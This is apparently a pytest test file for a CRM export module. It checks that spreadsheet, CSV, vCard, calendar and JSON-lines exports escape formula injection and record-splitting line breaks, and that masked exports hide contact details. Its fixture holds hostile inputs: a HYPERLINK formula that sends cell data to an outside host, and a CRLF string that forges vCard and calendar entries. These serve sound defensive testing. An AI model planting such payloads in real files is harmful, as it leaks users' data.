"""Texts that would be something else in a spreadsheet, an address book or a calendar, in every format."""

from __future__ import annotations

import csv
import io
import json
import re
from typing import Any

import pytest

from leadtui.domain.forms import NewContact, NewLead
from leadtui.domain.people import Viewer
from leadtui.exchange.kinds import Kind
from leadtui.services import export_any, leads, people
from leadtui.services.export_any import Wanted
from leadtui.store.models import Contact, Lead, Plan
from tests.services.desk import Desk

STARTS = ("=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠")
FORMULA = 'HYPERLINK("http://x.cn?"&A1)'
BREAKS = "甲\r\nEND:VCARD\r\nBEGIN:VCARD\r\nFN:乙\r\nEND:VEVENT;X,Y\\n"
TABLE = ("customer,need,notes,contact,phone,email,wechat,plan_step",)


@pytest.fixture
def hostile(desk: Desk) -> Desk:
    """A lead for each way to begin, as an older program may have kept them; one with line breaks."""
    for place, start in enumerate((*STARTS, BREAKS)):
        text = start + FORMULA
        new = NewLead(
            f"客户{place}", "website", contacts=(NewContact("张三", (("phone", f"1380000{place:04d}"),)),)
        )
        lead_id = leads.create(desk.store, desk.wang, new).lead_id
        desk.reached(desk.wang, lead_id)
        with desk.store.transaction():
            Lead.update(customer=text, short_name=text, need=text, notes=text).where(
                Lead.id == lead_id
            ).execute()
            Contact.update(name=text, title=text, address=text).where(Contact.lead_id == lead_id).execute()
            Plan.update(step=text, focus=text, goal=text).where(Plan.lead_id == lead_id).execute()
    return desk


def written(desk: Desk, kind: Kind, viewer: Viewer | None = None, **options: Any) -> bytes:
    out = io.BytesIO()
    export_any.write(desk.store, viewer or desk.wang, out, Wanted(kind, language="en", **options))
    return out.getvalue()


@pytest.mark.parametrize("options", [{}, {"columns": TABLE}, {"layout": "customers"}, {"layout": "progress"}])
def test_no_cell_of_a_workbook_is_a_formula_for_any_reader(hostile: Desk, options: dict[str, Any]) -> None:
    import openpyxl
    from python_calamine import CalamineWorkbook

    content = written(hostile, "xlsx", **options)
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}
    risky = [
        cell for cell in cells if str(cell.value).startswith(("=", "+", "-", "@")) and len(cell.value) > 9
    ]
    assert risky
    assert all(cell.quotePrefix for cell in risky)
    rows = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()
    texts = [value for row in rows for value in row if isinstance(value, str)]
    assert f"={FORMULA}" in texts
    assert book.worksheets[0].freeze_panes is not None
    assert book.worksheets[0].auto_filter.ref is not None


@pytest.mark.parametrize("options", [{}, {"columns": TABLE}, {"layout": "customers"}, {"layout": "progress"}])
def test_no_cell_of_a_csv_begins_as_a_formula(hostile: Desk, options: dict[str, Any]) -> None:
    text = written(hostile, "csv", **options).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert f"'={FORMULA}" in cells
    wrong = [cell for cell in cells if re.match(r"[\s]*[=+\-@＝＋－＠]", cell) and len(cell) > 1]
    assert [cell for cell in wrong if FORMULA in cell] == []


@pytest.mark.parametrize("kind", ["vcf", "vcf4"])
def test_no_text_ends_a_card_or_begins_another(hostile: Desk, kind: Kind) -> None:
    text = re.sub(r"\r\n[ \t]", "", written(hostile, kind).decode())
    lines = text.split("\r\n")
    assert lines.count("BEGIN:VCARD") == lines.count("END:VCARD") == len(STARTS) + 1
    assert {line.split(":")[0].split(";")[0] for line in lines if line} <= {
        *("BEGIN", "END", "VERSION", "PRODID", "UID", "FN", "N", "TITLE", "ORG", "ADR", "TEL"),
    }


def test_no_text_ends_an_entry_or_begins_another(hostile: Desk) -> None:
    text = re.sub(r"\r\n[ \t]", "", written(hostile, "ics").decode())
    lines = text.split("\r\n")
    assert lines.count("BEGIN:VEVENT") == lines.count("END:VEVENT") == len(STARTS) + 1
    assert sum(line.startswith("SUMMARY") for line in lines) == len(STARTS) + 1


def test_every_json_line_is_one_object(hostile: Desk) -> None:
    lines = written(hostile, "jsonl").decode().splitlines()
    assert len(lines) == len(STARTS) + 1
    assert {json.loads(line)["need"][-len(FORMULA) :] for line in lines} == {FORMULA}


@pytest.mark.parametrize("kind", ["xlsx", "csv", "jsonl", "vcf", "vcf4"])
def test_masked_hides_every_point_in_every_format_and_a_colleagues_without_asking(
    desk: Desk, kind: Kind
) -> None:
    points = (("phone", "13711112222"), ("email", "moonlight@example.com"), ("wechat", "moonlight88"))
    new = NewLead("青山制造", "website", contacts=(NewContact("张三", points),), owner_id=desk.wang.user_id)
    leads.create(desk.store, desk.wang, new)
    ann, mia = desk.user("ann"), desk.user("mia", "manager")
    desk.team("华南", mia, ann)
    shared = NewLead("白河物流", "website", contacts=(NewContact("李四", points),), owner_id=ann.user_id)
    leads.create(desk.store, desk.wang, shared)
    people.set_user(desk.store, desk.wang, "mia", allow=["export"])
    options: dict[str, Any] = {"columns": TABLE} if kind in ("xlsx", "csv") else {}
    for content in (
        shown(written(desk, kind, masked=True, **options), kind),
        shown(written(desk, kind, mia, **options), kind),
    ):
        for secret in ("13711112222", "moonlight@", "moonlight88"):
            assert secret not in content
        assert "137****2222" in content
    assert "13711112222" in shown(written(desk, kind, **options), kind)


def shown(content: bytes, kind: Kind) -> str:
    """What a reader sees of a file."""
    if kind != "xlsx":
        return re.sub(r"\r\n[ \t]", "", content.decode())
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(content))
    return "\n".join(str(cell.value) for sheet in book for row in sheet.iter_rows() for cell in row)
